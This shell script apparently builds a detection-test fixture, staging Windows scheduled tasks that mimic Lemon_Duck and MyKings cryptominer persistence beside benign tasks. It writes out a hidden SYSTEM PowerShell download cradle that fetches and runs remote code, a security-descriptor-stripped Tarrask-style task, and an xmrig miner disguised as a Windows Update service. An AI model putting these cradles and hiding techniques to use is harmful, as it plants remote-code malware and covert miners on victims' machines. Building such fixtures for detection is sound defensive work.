#!/bin/sh
# Task-based miners (Lemon_Duck, MyKings): a hidden task every 50 minutes running a
# PowerShell download cradle as SYSTEM, written by Windows (UTF-16) with its TaskCache
# entry; a task that exists only in the TaskCache with its security descriptor removed
# (hidden from schtasks, Tarrask) running the miner from ProgramData; a task file no
# cache knows. Benign beside them: Google Update's task (base), an admin's disabled
# backup task with a PowerShell script from Program Files.
set -e
root=$1
here=$(cd "$(dirname "$0")" && pwd)
mk="python3 $here/../../windows/mkwin.py"
samples=${MINETRACE_SAMPLES:-$here/../../../../shared/data/samples}
[ -f "$samples/xmrig.exe" ] || samples=/work/shared/data/samples
$mk base "$root"
cat > "$root/blackball.xml" <<'XML'
<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2019-05-12T03:11:41</Date><URI>\blackball</URI></RegistrationInfo>
  <Triggers>
    <TimeTrigger>
      <Repetition><Interval>PT50M</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition>
      <StartBoundary>2019-05-12T03:11:00</StartBoundary><Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author">
    <Exec>
      <Command>cmd.exe</Command>
      <Arguments>/c powershell -w hidden -c &quot;IEX(New-Object Net.WebClient).DownloadString('http://t.amynx.com/gim.jsp')&quot;</Arguments>
    </Exec>
  </Actions>
</Task>
XML
$mk task "$root" blackball "$root/blackball.xml"
$mk taskcache "$root" blackball "{A1B2C3D4-0001-4000-8000-000000000001}" cmd.exe "/c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.amynx.com/gim.jsp')"
$mk file "$root" 'C:\ProgramData\WindowsUpdate\wuaucltsvc.exe' "$samples/xmrig.exe"
$mk taskcache "$root" 'Microsoft\Windows\WindowsUpdate\Scheduled Maintenance' "{A1B2C3D4-0002-4000-8000-000000000002}" 'C:\ProgramData\WindowsUpdate\wuaucltsvc.exe' '-B --donate-level=1' --no-sd
cat > "$root/backup.xml" <<'XML'
<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>CONTOSO\it-admin</Author><URI>\Contoso Nightly Backup</URI></RegistrationInfo>
  <Triggers><CalendarTrigger><StartBoundary>2020-01-01T23:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>
  <Settings><Enabled>false</Enabled></Settings>
  <Actions><Exec><Command>powershell.exe</Command><Arguments>-NoProfile -ExecutionPolicy Bypass -File "C:\Program Files\Contoso\backup.ps1"</Arguments></Exec></Actions>
</Task>
XML
$mk task "$root" 'Contoso Nightly Backup' "$root/backup.xml"
$mk taskcache "$root" 'Contoso Nightly Backup' "{A1B2C3D4-0003-4000-8000-000000000003}" powershell.exe '-NoProfile -ExecutionPolicy Bypass -File "C:\Program Files\Contoso\backup.ps1"'
cat > "$root/orphan.xml" <<'XML'
<?xml version="1.0" encoding="UTF-16"?>
<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>
  <Actions><Exec><Command>%windir%\Temp\conhost.exe</Command><Arguments>-o pool.supportxmr.com:443 -k</Arguments></Exec></Actions>
</Task>
XML
$mk task "$root" 'Microsoft\Windows\Ras\RasBoot' "$root/orphan.xml"
rm "$root/blackball.xml" "$root/backup.xml" "$root/orphan.xml"
